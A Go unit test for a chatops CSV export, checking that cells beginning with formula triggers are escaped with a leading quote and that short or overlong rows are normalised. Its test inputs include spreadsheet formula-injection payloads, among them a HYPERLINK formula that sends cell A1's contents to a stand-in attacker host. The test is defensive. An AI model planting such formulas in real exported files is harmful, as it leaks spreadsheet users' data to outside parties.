package chatops

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestCSV(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", `"=1`, "＝1", " =1", "a,b\n\"c\""}
	table := Table{Columns: []string{"what", "when"}}
	for _, h := range hostile {
		table.Rows = append(table.Rows, []Inline{C(h), At(time.Date(2026, 3, 1, 4, 0, 0, 0, time.FixedZone("", 3600)))})
	}
	table.Rows = append(table.Rows, []Inline{T("short")}, []Inline{T("a"), T("b"), T("too many")})
	f := CSV("x.csv", table)
	rows, err := csv.NewReader(strings.NewReader(string(f.Bytes))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows {
		got = append(got, strings.Join(r, " | "))
	}
	at := " | 2026-03-01T03:00:00Z"
	want := []string{
		"what | when", `'=HYPERLINK("http://evil.example?"&A1)` + at, "'+1+1" + at, "'-2+3" + at, "'@SUM(1)" + at, "'\t=1" + at, "'=1" + at,
		`'"=1` + at, "'＝1" + at, "' =1" + at, "a,b\n\"c\"" + at, "short | ", "a | b",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}
